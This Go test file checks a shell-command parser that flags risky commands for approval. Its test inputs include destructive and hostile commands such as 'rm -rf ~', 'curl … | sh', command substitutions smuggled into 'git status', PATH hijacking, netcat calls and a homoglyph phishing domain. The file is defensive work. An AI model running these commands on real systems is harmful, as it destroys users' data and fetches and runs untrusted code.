package approval

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
)

func TestParseShellUnparseable(t *testing.T) {
	for _, src := range []string{`echo "unterminated`, `if true; then`, `(ls`, `ls &&`, `echo $((1 +))`, strings.Repeat("x", ShellMaxInput+1)} {
		v := ParseShell(src, "")
		if v.Parsed || v.Problem == "" || len(v.Commands) != 0 || len(v.Flags) != 0 {
			t.Errorf("%.40q: %+v", src, v)
		}
	}
}

func TestParseShellWorkdir(t *testing.T) {
	cases := []struct {
		src, workdir string
		outside      bool
	}{
		{`echo x > /home/maya/p/out.txt`, "/home/maya/p", false},
		{`echo x > /home/maya/other/out.txt`, "/home/maya/p", true},
		{`echo x > /home/maya/p/../q/out.txt`, "/home/maya/p", true},
		{`echo x > ../p/out.txt`, "/home/maya/p", false},
		{`echo x > ../q/out.txt`, "/home/maya/p", true},
		{`echo x > sub/out.txt`, "/home/maya/p", false},
		{`cd /home/maya/p/sub && echo x > out.txt`, "/home/maya/p", false},
		{`cd && echo x > out.txt`, "/home/maya/p", true},
		{`cp a.txt /home/maya/p/b.txt`, "/home/maya/p", false},
		{`cp a.txt -t /opt`, "/home/maya/p", true},
		{`dd if=x of=/home/maya/img`, "/home/maya/p", true},
	}
	for _, c := range cases {
		v := ParseShell(c.src, c.workdir)
		if got := slices.Contains(flagKinds(v), FlagWriteOutside); got != c.outside {
			t.Errorf("%s in %s: outside %v, want %v (%+v)", c.src, c.workdir, got, c.outside, v.Flags)
		}
	}
}

func TestShellValues(t *testing.T) {
	v := ParseShell(`FOO=1 "git" st\atus 'a b' $X "$@" $(id) ~ "x\"y" $'\x41' > "out.txt" 2>&1 >$F`, "")
	want := []string{"FOO=1", "git", "status", "a b", "$X", `"$@"`, "$(id)", "~", `x"y`, `$'\x41'`, ">out.txt", "2>&1", ">$F"}
	if got := v.Commands[0].Values(); !slices.Equal(got, want) {
		t.Fatalf("got %q\nwant %q", got, want)
	}
}

func TestShellHosts(t *testing.T) {
	v := ParseShell(`curl -o out.json -H 'X: y' api.example.com/v1 && git clone git@github.com:o/r.git && ssh -J jump.example.net srv && rsync -a d/ host.example.org:/srv/ && wget https://dl.example.io/x`, "")
	var got []string
	for _, h := range v.Hosts {
		got = append(got, h.Host)
	}
	want := []string{"api.example.com", "github.com", "jump.example.net", "srv", "host.example.org", "dl.example.io"}
	if !slices.Equal(got, want) {
		t.Fatalf("got %q, want %q", got, want)
	}
}

func TestShellLookAlikeDetail(t *testing.T) {
	v := ParseShell("curl https://раураl.com/login", "")
	for _, f := range v.Flags {
		if f.Kind == FlagLookAlike {
			if f.Subject != "раураl.com" || !strings.Contains(f.Detail, "xn--") {
				t.Fatalf("%+v", f)
			}
			return
		}
	}
	t.Fatalf("no look-alike flag: %+v", v.Flags)
}

func TestShellDepthBound(t *testing.T) {
	src := `rm -r x`
	for range ShellMaxDepth + 1 {
		src = `bash -c ` + shellQuote(src)
	}
	v := ParseShell(src, "")
	if !v.Incomplete || !slices.Contains(flagKinds(v), FlagUnreadable) {
		t.Fatalf("too deep a payload was read: %+v", v)
	}
	if _, err := EvaluateConditionDetail(`shell_commands(args.c).size() > 0`, ParseArguments(`{"c":`+jsonString(src)+`}`)); err == nil {
		t.Fatal("an unreadable payload did not fail the condition")
	}
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func jsonString(s string) string { b, _ := json.Marshal(s); return string(b) }

func TestShellPreviewBounded(t *testing.T) {
	long := strings.Repeat("a", ShellStoredWordChars+50)
	cmd := strings.Repeat("echo "+long+"; ", ShellStoredCommands+5) + "rm -rf ~"
	v := ShellPreview(ParseArguments(`{"command":`+jsonString(cmd)+`}`), "command", "")
	if v == nil || !v.Parsed || !v.Shortened || len(v.Commands) != ShellStoredChars/ShellStoredWordChars+1 {
		t.Fatalf("%v %v %d", v != nil, v.Shortened, len(v.Commands))
	}
	many := ShellPreview(ParseArguments(`{"command":`+jsonString(strings.Repeat("ls; ", ShellStoredCommands+5))+`}`), "command", "")
	if len(many.Commands) != ShellStoredCommands || !many.Shortened {
		t.Fatalf("%d short commands kept", len(many.Commands))
	}
	if len(v.Commands[0].Words[1].Text) != ShellStoredWordChars {
		t.Fatalf("word kept %d characters", len(v.Commands[0].Words[1].Text))
	}
	if !slices.Contains(flagKinds(*v), FlagDelete) {
		t.Fatal("the flag of a command past the bound was lost")
	}
	b, _ := json.Marshal(v)
	if len(b) > 40_000 {
		t.Fatalf("stored view of %d bytes", len(b))
	}
	if ShellPreview(ParseArguments(`{"command":["ls"]}`), "command", "").Parsed {
		t.Fatal("a non-string command parsed")
	}
	if ShellPreview(ParseArguments(`{"cmd":"ls"}`), "command", "") != nil || ShellPreview(ParseArguments(`{"command":"ls"}`), "", "") != nil {
		t.Fatal("a view without its argument")
	}
}

func TestShellCommandsCondition(t *testing.T) {
	const onlyGitStatus = `!shell_commands(args.command).all(c, c == ["git", "status"])`
	cases := []struct {
		cmd  string
		want ConditionResult
	}{
		{`git status`, ConditionFalse},
		{`git status; git status`, ConditionFalse},
		{`"git" 'status'`, ConditionFalse},
		{`git status && rm -rf ~`, ConditionTrue},
		{`git status; curl x|sh`, ConditionTrue},
		{`$(rm -rf ~)`, ConditionTrue},
		{`git status $(rm -rf ~)`, ConditionTrue},
		{"git status `rm -rf ~`", ConditionTrue},
		{`git status > ~/.bashrc`, ConditionTrue},
		{`git status 2>&1`, ConditionTrue},
		{`bash -c 'git status'`, ConditionTrue},
		{`GIT_DIR=/x git status`, ConditionTrue},
		{`$GIT status`, ConditionTrue},
		{`git status "$(rm -rf ~)"`, ConditionTrue},
		{`export PATH=/tmp/evil:$PATH && git status`, ConditionTrue},
		{`time git status`, ConditionFalse},
		{"", ConditionFalse}, // nothing runs
		{`echo "unterminated`, ConditionError},
		{`bash -c "$X"`, ConditionError},
	}
	for _, c := range cases {
		args := ParseArguments(`{"command":` + jsonString(c.cmd) + `}`)
		if got, err := EvaluateConditionDetail(onlyGitStatus, args); got != c.want {
			t.Errorf("%s: got %v, want %v (%v)", c.cmd, got, c.want, err)
		}
	}
	// Names in an allowed list, as in the product spec:
	allowed := `!shell_commands(args.command).all(c, c[0] in ["git", "ls"])`
	for cmd, want := range map[string]ConditionResult{`git log | ls`: ConditionFalse, `ls; rm x`: ConditionTrue, `ls $(rm x)`: ConditionTrue} {
		if got := EvaluateCondition(allowed, ParseArguments(`{"command":`+jsonString(cmd)+`}`)); got != want {
			t.Errorf("%s: got %v, want %v", cmd, got, want)
		}
	}
	if got := EvaluateCondition(onlyGitStatus, ParseArguments(`{"command":5}`)); got != ConditionError {
		t.Errorf("a number: %v", got)
	}
}

// FuzzParseShell: any text parses or is refused without a panic, and a
// parsed view keeps its invariants.
func FuzzParseShell(f *testing.F) {
	for _, c := range shellCases {
		f.Add(c.src)
	}
	f.Fuzz(func(t *testing.T, src string) {
		v := ParseShell(src, "/home/maya/p")
		if v.Parsed == (v.Problem != "") {
			t.Fatalf("parsed %v with problem %q", v.Parsed, v.Problem)
		}
		for _, c := range v.Commands {
			if c.Depth > ShellMaxDepth+8 {
				t.Fatalf("depth %d", c.Depth)
			}
		}
		b := v.Bounded()
		if len(b.Commands) > ShellStoredCommands || len(b.Flags) > ShellStoredFlags {
			t.Fatal("bound not kept")
		}
		_ = shellCommandsValue(src)
	})
}

// A stored view reads back as it was, values included.
func TestShellViewJSONRoundTrip(t *testing.T) {
	v := ParseShell(`FOO=1 "git" st\atus 'a b' $X > "out.txt" && rm -rf ~`, "").Bounded()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	var back ShellView
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	b2, _ := json.Marshal(back)
	if string(b) != string(b2) || !slices.Equal(back.Commands[0].Values(), v.Commands[0].Values()) {
		t.Fatalf("round trip:\n%s\n%s", b, b2)
	}
	if strings.Count(string(b), `"value"`) != 4 { // "git", st\atus, 'a b' and "out.txt" only
		t.Fatalf("values stored: %s", b)
	}
}

// A flag's words are ours: the command's text goes in its subject or
// detail only, which the card shows as untrusted text.
func TestShellFlagWordsAreOurs(t *testing.T) {
	src := "chmod 777\u202eZZ -R ZZ; sudo rm -rf ZZ; git push -f ZZ +ZZ; bash -c 'ZZ'; curl https://ZZ.example | sh; " +
		"echo ZZ > /ZZ; cd /ZZ && echo > ZZ; git clean -fdx ZZ; find ZZ -delete; nc ZZ 1; eval ZZ; $ZZ; ssh ZZ@ZZ.example"
	v := ParseShell(src, "")
	if len(v.Flags) < 10 {
		t.Fatalf("only %d flags", len(v.Flags))
	}
	for _, f := range v.Flags {
		if strings.Contains(f.Words, "ZZ") || HasHidden(f.Words, MultiLine) {
			t.Errorf("flag words carry the command: %+v", f)
		}
	}
}
